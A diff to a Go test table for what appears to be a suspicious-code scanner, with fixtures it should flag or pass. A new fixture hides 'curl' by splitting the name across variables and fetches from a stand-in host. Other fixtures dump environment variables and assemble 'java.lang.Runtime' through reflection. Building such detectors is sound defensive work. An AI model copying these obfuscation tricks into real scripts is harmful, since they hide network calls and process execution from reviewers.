@@ -130,6 +130,8 @@ func TestExtractFolding(t *testing.T) {
 		{"js import url", "a.ts", "import('https://cdn.example.com/m.mjs').then(m => m.default());\n", []string{"network cdn.example.com", "obfuscation"}},
 		{"js locale require is fine", "a.js", "const m = require('./locales/' + lang + '.json');\n", nil},
 		{"go function value", "a.go", "package x\nimport \"os\"\nvar dump = os.Environ\nfunc f() []string { return dump() }\n", []string{"env"}},
+		{"shell command in a variable", "a.sh", "c=cu; c=\"${c}rl\"\n$c -s https://x.example.com/k\n", []string{"network x.example.com", "obfuscation curl"}},
+		{"shell tool variable is fine", "a.sh", "CC=gcc\n$CC -o app main.c\n", nil},
 		{"java reflection", "A.java", "class A { void f() throws Exception { Class.forName(\"java.lang.\" + \"Runtime\"); } }\n", []string{"obfuscation java.lang.Runtime", "process"}},
 		{"java jdbc driver is fine", "A.java", "class A { void f() throws Exception { Class.forName(\"org.postgresql.Driver\"); } }\n", nil},
 	}
